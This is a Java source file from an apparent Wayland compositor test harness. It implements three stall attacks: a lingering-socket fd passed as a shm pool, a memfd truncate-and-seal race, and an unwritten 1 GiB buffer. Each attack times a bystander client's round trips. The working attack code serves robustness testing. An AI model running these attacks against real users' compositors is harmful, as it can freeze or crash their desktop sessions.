package io.shmward.client.attack;

import static io.shmward.client.attack.Expectation.invalidFdOrServed;

import io.shmward.client.ClientObject;
import io.shmward.client.LingeringSocket;
import io.shmward.client.MemFile;
import io.shmward.client.RawMessage;
import io.shmward.client.ShmScene;
import io.shmward.client.VisibleSurface;
import io.shmward.client.WaylandClient;
import io.shmward.os.Libc;
import io.shmward.os.OsException;
import io.shmward.protocol.spec.InterfaceSpec;
import io.shmward.protocol.spec.Protocol;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.locks.LockSupport;

/**
 * Attacks that try to stall the compositor's event loop with work a client makes it do on the client's
 * behalf: a pool fd whose close() blocks, a file whose size and seals change between two looks, a huge
 * buffer of never-written pages. Each times a bystander's round trips while the attack is pending; a robust
 * compositor answers the bystander within a second whatever the attacker does.
 */
final class StallAttacks {
    private static final InterfaceSpec WL_SHM_POOL = Protocol.standard().get("wl_shm_pool");
    private static final int CREATE_POOL = Protocol.standard().get("wl_shm").request("create_pool").opcode();
    /** create_pool on the wire: header, new_id, size (the fd rides beside the bytes). */
    private static final int CREATE_POOL_HEAD = 12;
    private static final int PAGE = 4096;

    private static final int LINGER_SECONDS = 10;
    /** How long after handing over the socket the bystander keeps probing: the linger, and a second more. */
    private static final Duration LINGER_WATCH = Duration.ofSeconds(LINGER_SECONDS + 1);
    private static final Duration REST_DELAY = Duration.ofMillis(50);
    /** Round trips may take this long before the probe gives up: a stall's whole length is the measure. */
    private static final Duration STALL_PATIENCE = Duration.ofSeconds(30);

    private static final int RACE_SIDE = 512;
    private static final int RACE_BYTES = RACE_SIDE * RACE_SIDE * 4;
    private static final int RACE_TRIES = 500;
    private static final Duration RACE_TIME = Duration.ofSeconds(10);
    /** The truncate-and-seal lands this long after the message's last byte, swept over the tries. */
    private static final long RACE_MAX_DELAY_NANOS = 300_000;

    private static final int GIANT_SIDE = 16384;
    private static final long GIANT_BYTES = (long) GIANT_SIDE * GIANT_SIDE * 4;
    private static final Duration GIANT_ANSWER = Duration.ofSeconds(60);

    private static final String STALL_BASIS = "One client's request must not hold up the others: libwayland "
            + "dispatches each client in its own event-loop turn, and a compositor that does blocking work there (a "
            + "close(), a page-in of a gigabyte) stops every client for as long as it takes.";

    private static final Expectation INVALID_FD = Expectation.shmError("", "invalid_fd");
    private static final Expectation NO_MEMORY = Expectation.refused("no_memory", "");

    private StallAttacks() {
    }

    static List<Scenario> scenarios() {
        List<Scenario> all = new ArrayList<>();
        all.add(new Scenario("stall.lingering-socket-fd",
                "create_pool with a TCP socket whose send queue is full and SO_LINGER is 10 s, the server's copy "
                        + "its last reference, so whoever closes it waits 10 s",
                new Expectation("wl_shm.error.invalid_fd, disconnected, or served", STALL_BASIS
                        + " The fd is not a file (wl_shm.error.invalid_fd \"mmapping the file descriptor failed\"); "
                        + "close(2) of the last reference to a lingering socket blocks until its data is sent or the "
                        + "linger time passes (socket(7) SO_LINGER), so a compositor must close client fds off its "
                        + "event loop.",
                        o -> INVALID_FD.accepts(o) || o.outcome() == Outcome.DISCONNECTED || o.outcome() == Outcome.SERVED)
                        .and(BystanderProbe.EXPECTATION, BystanderProbe::keptUp),
                StallAttacks::lingeringSocketFd));
        all.add(new Scenario("stall.seal-race",
                "up to " + RACE_TRIES + " fresh clients each send create_pool for an unsealed 1 MiB memfd, cut it to 0 "
                        + "and seal it against shrinking as the request lands (between a size check and a seal "
                        + "check), then show a 1 MiB buffer of it",
                invalidFdOrServed("A compositor that reads the file's size and its seals in two steps (fstat, then "
                        + "F_GET_SEALS) can see the old size with the new seal and decide the file cannot shrink "
                        + "under a mapping it then reads past the end. libwayland checks the seals first "
                        + "(wayland-shm.c shm_create_pool: F_GET_SEALS, then fstat). Whatever the interleaving, the "
                        + "reading of the buffer must end in wl_shm.error.invalid_fd or zeros, never in a crash.")
                        .and(BystanderProbe.EXPECTATION, BystanderProbe::keptUp),
                StallAttacks::sealRace));
        all.add(new Scenario("stall.unwritten-gigabyte-buffer",
                "one commit of a 16384x16384 buffer over a shrink-sealed 1 GiB memfd never written (all holes) "
                        + "while a bystander round-trips every 20 ms",
                new Expectation("served, or refused (wl_display.error.no_memory or a plain disconnect)", STALL_BASIS
                        + " A never-written memfd costs the client nothing; read through a mapping, every page of "
                        + "it is allocated (and zeroed) by the kernel for the reader, seconds per GiB. A compositor "
                        + "reads it without paying that on its event loop (pread reads holes as zeros) or refuses "
                        + "the buffer at a per-client bound.",
                        o -> o.outcome() == Outcome.SERVED || NO_MEMORY.accepts(o))
                        .and(BystanderProbe.EXPECTATION, BystanderProbe::keptUp),
                StallAttacks::unwrittenGigabyteBuffer));
        return all;
    }

    // ---- stall.lingering-socket-fd ----------------------------------------------------------------------

    private static Observation lingeringSocketFd(AttackContext ctx) throws Exception {
        ShmScene scene = ctx.scene();
        WaylandClient c = scene.client();
        try (LingeringSocket sock = LingeringSocket.open(LINGER_SECONDS)) {
            long unsent = sock.unsent();
            if (unsent <= 0) {
                throw new PremiseFailed("the socket's send queue did not stay full (" + unsent + " bytes unsent)");
            }
            BystanderProbe probe = new BystanderProbe(ctx, STALL_PATIENCE);
            Thread.sleep(100); // a baseline of round trips before the attack
            byte[] whole = RawMessage.to(scene.shm().id(), CREATE_POOL).word(c.reserveIds(1)).word(PAGE).build();
            Observation o;
            long ourCloseMs;
            long handedOver;
            try {
                c.sendRaw(Arrays.copyOf(whole, CREATE_POOL_HEAD), sock.fd());
                // the fd in flight (or already received) holds the socket: our close is not the last one
                long start = System.nanoTime();
                sock.handOver();
                ourCloseMs = (System.nanoTime() - start) / 1_000_000;
                Thread.sleep(REST_DELAY.toMillis());
                handedOver = System.nanoTime();
                c.sendRaw(Arrays.copyOfRange(whole, CREATE_POOL_HEAD, whole.length));
                waitQuietly(c, LINGER_WATCH.plusSeconds(4));
                o = ctx.settle(c);
            } catch (IOException e) {
                handedOver = System.nanoTime();
                ourCloseMs = -1;
                o = ctx.settle(c);
            }
            long attackerMs = (System.nanoTime() - handedOver) / 1_000_000;
            // the stall, if any, comes when the compositor drops the fd, which may be after it answered us
            sleepUntil(handedOver + LINGER_WATCH.toNanos());
            o = o.note(sock.queued() + " bytes written to a never-accepted loopback TCP connection, " + unsent
                            + " of them unsent, SO_LINGER " + LINGER_SECONDS + " s; the fd went with create_pool's "
                            + "first " + CREATE_POOL_HEAD + " bytes, its last 4 " + REST_DELAY.toMillis() + " ms later")
                    .note("the attacker's fate was known " + attackerMs + " ms after the request was complete")
                    .measure("attacker-settled-ms", attackerMs);
            if (ourCloseMs >= 1000) {
                o = o.note("our own close() of the socket blocked " + ourCloseMs + " ms: the compositor had already "
                        + "dropped its copy, so this run says nothing about its close");
            }
            return probe.stopAndReport(o);
        }
    }

    // ---- stall.seal-race ---------------------------------------------------------------------------------

    private static Observation sealRace(AttackContext ctx) throws Exception {
        ShmScene first = ctx.scene();
        BystanderProbe probe = new BystanderProbe(ctx, STALL_PATIENCE);
        Map<String, Integer> fates = new LinkedHashMap<>();
        Observation last = null;
        Observation unexpected = null;
        Expectation robust = invalidFdOrServed("");
        int tries = 0;
        int written = 0;
        String cutShort = null;
        long start = System.nanoTime();
        long deadline = start + RACE_TIME.toNanos();
        while (tries < RACE_TRIES && System.nanoTime() < deadline) {
            ShmScene scene;
            try {
                scene = tries == 0 ? first : ctx.scene();
            } catch (IOException e) {
                cutShort = "try " + (tries + 1) + " could not connect: " + e.getMessage();
                break;
            }
            boolean write = tries % 2 == 0;
            // a golden-ratio walk over [0, max): every delay range is visited early and evenly
            long delay = (long) (((tries * 0.6180339887) % 1.0) * RACE_MAX_DELAY_NANOS);
            Observation o = raceOnce(ctx, scene, write, delay);
            tries++;
            written += write ? 1 : 0;
            scene.client().close();
            last = o;
            fates.merge(ReportFormat.shortObservation(o), 1, Integer::sum);
            if (!robust.accepts(o) && unexpected == null) {
                unexpected = o.note("on try " + tries + " (" + (write ? "written" : "never written") + " file, "
                        + "truncated " + delay / 1000 + " µs after the request)");
            }
            if (o.outcome() == Outcome.STALLED || o.outcome() == Outcome.INCONCLUSIVE) {
                break; // an answer that never came, or a race we could not set up: more tries say no more
            }
        }
        if (last == null) {
            throw new PremiseFailed("no try could be made" + (cutShort == null ? "" : ": " + cutShort));
        }
        Observation o = (unexpected != null ? unexpected : last)
                .note(tries + " tries in " + (System.nanoTime() - start) / 1_000_000 + " ms (" + written + " on a "
                        + "written file, " + (tries - written) + " on a never-written one, whose truncation is "
                        + "quicker and so fits a narrower window); outcomes: " + fates)
                .measure("tries", tries);
        if (cutShort != null) {
            o = o.note(cutShort);
        }
        return probe.stopAndReport(o);
    }

    /**
     * One try on a fresh connection: create_pool in two writes, the file cut to 0 and shrink-sealed
     * {@code delayNanos} after the second, then a buffer over all of it shown.
     */
    private static Observation raceOnce(AttackContext ctx, ShmScene scene, boolean write, long delayNanos) {
        WaylandClient c = scene.client();
        try (MemFile file = MemFile.memfd("shmward-seal-race", RACE_BYTES)) {
            VisibleSurface surface = ctx.surface(scene);
            if (write) {
                file.fillPixels(0, RACE_BYTES, 0xff996633);
            }
            ClientObject pool = c.allocate(WL_SHM_POOL, 1);
            byte[] whole = RawMessage.to(scene.shm().id(), CREATE_POOL).word(pool.id()).word(RACE_BYTES).build();
            c.sendRaw(Arrays.copyOf(whole, CREATE_POOL_HEAD), file.fd());
            c.sendRaw(Arrays.copyOfRange(whole, CREATE_POOL_HEAD, whole.length));
            spin(delayNanos);
            file.truncate(0);
            Libc.addSeals(file.fd(), Libc.F_SEAL_SHRINK);
            ClientObject buffer = scene.createBuffer(pool, 0, RACE_SIDE, RACE_SIDE, RACE_SIDE * 4, ShmScene.ARGB8888);
            return ctx.settleAfterFrame(c, surface.show(buffer, RACE_SIDE, RACE_SIDE));
        } catch (OsException e) {
            return Observation.of(Outcome.INCONCLUSIVE).note("premise failed: " + e.getMessage());
        } catch (IOException e) {
            return ctx.settle(c);
        }
    }

    private static void spin(long nanos) {
        long until = System.nanoTime() + nanos;
        while (System.nanoTime() < until) {
            Thread.onSpinWait();
        }
    }

    // ---- stall.unwritten-gigabyte-buffer -----------------------------------------------------------------

    private static Observation unwrittenGigabyteBuffer(AttackContext ctx) throws Exception {
        ShmScene scene = ctx.scene();
        WaylandClient c = scene.client();
        VisibleSurface surface = ctx.surface(scene);
        MemFile file = ctx.sealedMemfd(GIANT_BYTES);
        ClientObject pool = scene.createPool(file.fd(), Math.toIntExact(GIANT_BYTES));
        ClientObject buffer = scene.createBuffer(pool, 0, GIANT_SIDE, GIANT_SIDE, GIANT_SIDE * 4, ShmScene.ARGB8888);
        c.roundtrip(AttackContext.ANSWER);
        BystanderProbe probe = new BystanderProbe(ctx, STALL_PATIENCE);
        Thread.sleep(100); // a baseline of round trips before the attack
        long start = System.nanoTime();
        Observation o;
        try {
            ClientObject frame = surface.show(buffer, GIANT_SIDE, GIANT_SIDE);
            // the first read of a gigabyte may take seconds; the attacker waits for it, the bystander must not
            c.roundtrip(GIANT_ANSWER);
            o = ctx.settleAfterFrame(c, frame);
        } catch (IOException e) {
            o = ctx.settle(c);
        }
        long attackerMs = (System.nanoTime() - start) / 1_000_000;
        Thread.sleep(200); // a repaint that reads the buffer late still falls inside the probe
        return probe.stopAndReport(o.note("the attacker's commit was answered (or refused) after " + attackerMs + " ms")
                .measure("attacker-commit-ms", attackerMs));
    }

    // ---- helpers ---------------------------------------------------------------------------------------------

    /** Round-trips {@code c} for up to {@code timeout}, ignoring how that ends: settle reads the outcome. */
    private static void waitQuietly(WaylandClient c, Duration timeout) {
        try {
            c.roundtrip(timeout);
        } catch (IOException e) {
            // closed or no answer: settle says which
        }
    }

    private static void sleepUntil(long nanoTime) {
        long left;
        while ((left = nanoTime - System.nanoTime()) > 0) {
            LockSupport.parkNanos(left);
        }
    }
}
